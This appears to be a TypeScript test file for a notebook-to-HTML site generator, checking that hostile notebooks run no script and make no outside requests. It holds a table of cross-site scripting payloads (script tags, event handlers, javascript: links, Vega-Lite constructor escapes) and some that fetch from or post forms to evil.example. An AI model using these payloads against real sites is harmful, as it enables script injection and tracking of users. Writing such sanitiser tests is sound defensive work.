import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Cell } from '#cli/notebook/types';
import { code, launch, markdown, notebookOf, open, readThrough, shown, siteOf } from './site.js';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());

const VEGALITE = 'application/vnd.vegalite.v5+json';
const chart = (spec: object) =>
  code('chart', [
    shown({
      [VEGALITE]: { data: { values: [{ x: 1, y: 2 }] }, mark: 'point', encoding: { x: { field: 'x' } }, ...spec },
    }),
  ]);
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Ways in, each as cells of a notebook. What they try is to show a dialog or to ask another machine. */
const ATTACKS: Record<string, Cell[]> = {
  'a script in Markdown': [markdown('<script>alert(1)</script> <SCRIPT src="https://evil.example/x.js"></SCRIPT>')],
  'event handlers in Markdown': [
    markdown(
      '<img src="x" onerror="alert(1)"> <details open ontoggle=alert(1)>x</details> <p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
    ),
  ],
  'links that run': [
    markdown(
      '[click](javascript:alert(1)) <a href="java\nscript:alert(1)">b</a> <a href="data:text/html,<script>alert(1)</script>">c</a>',
    ),
  ],
  'frames, forms, objects and metas': [
    markdown(
      '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=a></form><object data="https://evil.example"></object><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/a.css"><base href="https://evil.example/">',
    ),
  ],
  'pictures from elsewhere': [
    markdown(
      '![tracker](https://evil.example/p.png) <img src="//evil.example/q.png" srcset="https://evil.example/r.png 2x"> <video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>',
    ),
  ],
  'styles that fetch': [
    markdown(
      '<div style="background:url(https://evil.example/s.png)">x</div><style>@import "https://evil.example/t.css"; body{display:none}</style>',
    ),
  ],
  'mathematics that links': [
    markdown(
      '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/m.png}$ $\\htmlStyle{background:url(https://evil.example)}{x}$',
    ),
  ],
  'a fence that ends the page': [
    markdown('```html\n</code></pre><script>alert(1)</script>\n```\n\n```"><script>alert(1)</script>\nx\n```'),
  ],
  'a heading that ends its anchor': [markdown('## a" onclick="alert(1)"><script>alert(1)</script>')],
  'marks of our own fragments': [
    markdown(
      '\u{E000}00000000-0000-0000-0000-000000000000-0\u{E000} <div class="chart"><script type="application/json" class="chart-spec">{}</script></div>',
    ),
  ],
  'HTML output': [
    code('x', [
      shown({
        'text/html':
          '<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe><svg onload=alert(1)></svg>',
      }),
    ]),
  ],
  'SVG output': [
    code('x', [
      shown({
        'image/svg+xml':
          '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>',
      }),
    ]),
  ],
  'Markdown and LaTeX outputs': [
    code('x', [
      shown({ 'text/markdown': '<script>alert(1)</script>[a](javascript:alert(1))' }),
      shown({ 'text/latex': '$\\href{javascript:alert(1)}{x}$<script>alert(1)</script>' }),
    ]),
  ],
  'text, streams and errors': [
    code('</code><script>alert(1)</script>', [
      shown({ 'text/plain': '<script>alert(1)</script>' }),
      {
        output_type: 'stream',
        name: 'stdout',
        text: '<script>alert(1)</script>\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[38;2;1;2;3mx',
      },
      { output_type: 'error', ename: '<script>', evalue: 'alert(1)', traceback: ['\x1b[31m<script>alert(1)</script>'] },
    ]),
  ],
  'a picture with words that end its tag': [
    code('x', [
      {
        output_type: 'display_data',
        data: { 'image/png': PIXEL, 'text/plain': '"><script>alert(1)</script>' },
        metadata: { 'image/png': { width: '1" onload="alert(1)' } },
      },
    ]),
  ],
  'a chart with remote data': [chart({ data: { url: 'https://evil.example/d.json' } })],
  'a chart with a remote picture': [
    chart({ mark: { type: 'image', width: 9, height: 9, url: 'https://evil.example/c.png' } }),
    chart({
      mark: 'image',
      encoding: { url: { field: 'u' }, x: { field: 'x' } },
      data: { values: [{ x: 1, u: 'https://evil.example/f.png' }] },
    }),
  ],
  'a chart whose pictures come from elsewhere after all': [
    chart({
      data: { values: [{ x: 1, u: `data:image/png;base64,${PIXEL}` }] },
      transform: [{ calculate: "'https://evil.example/g.png'", as: 'u' }],
      mark: 'image',
      encoding: { url: { field: 'u' }, x: { field: 'x' } },
    }),
    chart({
      data: { values: [{ x: 1, u: `data:image/png;base64,${PIXEL}` }] },
      layer: [
        {
          transform: [{ calculate: "'https://evil.example/h.png'", as: 'u' }],
          layer: [{ mark: 'image', encoding: { url: { field: 'u' } } }],
        },
        {
          mark: 'image',
          encoding: { url: { field: 'u', condition: { test: 'true', value: 'https://evil.example/i.png' } } },
        },
        { mark: 'image', encoding: { url: { value: 'https://evil.example/j.png' } } },
        { mark: { type: 'image', url: 'https://evil.example/k.png' }, encoding: { url: { field: 'v' } } },
      ],
    }),
  ],
  'a chart that links': [chart({ encoding: { x: { field: 'x' }, href: { value: 'javascript:alert(1)' } } })],
  'a chart whose expressions reach out': [
    chart({
      transform: [{ calculate: "datum.constructor.constructor('alert(1)')()", as: 'z' }],
      params: [{ name: 'p', expr: "this.constructor.constructor('alert(1)')()" }],
    }),
  ],
  'a chart that ends its script': [
    chart({
      title: '</script><script>alert(1)</script>',
      description: '"><script>alert(1)</script>',
      data: { values: [{ x: '</script><script>alert(1)</script>' }] },
    }),
  ],
  'a chart that colours with markup': [
    chart({
      mark: { type: 'point', color: 'red"/><script>alert(1)</script>' },
      config: { font: '"/><script>alert(1)</script>' },
    }),
  ],
};

describe('a hostile notebook runs nothing and asks nobody', () => {
  test.each(Object.entries(ATTACKS))('%s', async (_, cells) => {
    const site = await siteOf({ 'evil.ipynb': notebookOf(markdown('# Evil'), ...cells) });
    try {
      // The page's policy would stop most of it: without it, what we wrote must be harmless by itself.
      for (const bypassCSP of [true, false]) {
        const { page, noticed } = await open(browser, site.out, 'evil', { bypassCSP });
        await readThrough(page);
        await page.waitForTimeout(150);
        const bad = noticed.filter((what) => /^(request|dialog)/.test(what));
        expect(bad).toEqual([]);
        const handlers = await page.evaluate(() =>
          [...document.querySelectorAll('*')].flatMap((element) =>
            [...element.attributes]
              .filter(({ name, value }) => name.startsWith('on') || /^\s*javascript:/i.test(value))
              .map(({ name }) => `${element.tagName} ${name}`),
          ),
        );
        expect(handlers).toEqual([]);
        expect(await page.locator('h1').isVisible()).toBe(true);
        await page.context().close();
      }
    } finally {
      await site.remove();
    }
  });

  test('with --trust, one’s own HTML stays', async () => {
    const site = await siteOf(
      {
        'own.ipynb': notebookOf(
          markdown('# Own\n\n<div id="own" onclick="x()">mine</div>'),
          code('x', [shown({ 'text/html': '<script>globalThis.ran = true</script>' })]),
        ),
      },
      { trust: true },
    );
    const { page } = await open(browser, site.out, 'own');
    expect(await page.evaluate(() => (globalThis as { ran?: boolean }).ran)).toBe(true);
    await page.context().close();
    await site.remove();
  });
});

test('a title or a file name with markup is text', async () => {
  const site = await siteOf({
    'a&b.ipynb': notebookOf(markdown('# <b>x</b> & "y" </title><script>alert(1)</script>')),
  });
  const html = await readFile(join(site.out, 'a&b.html'), 'utf8');
  expect(html).not.toContain('<script>alert');
  const { noticed, page } = await open(browser, site.out, 'index');
  expect(noticed).toEqual([]);
  await page.context().close();
  await site.remove();
});
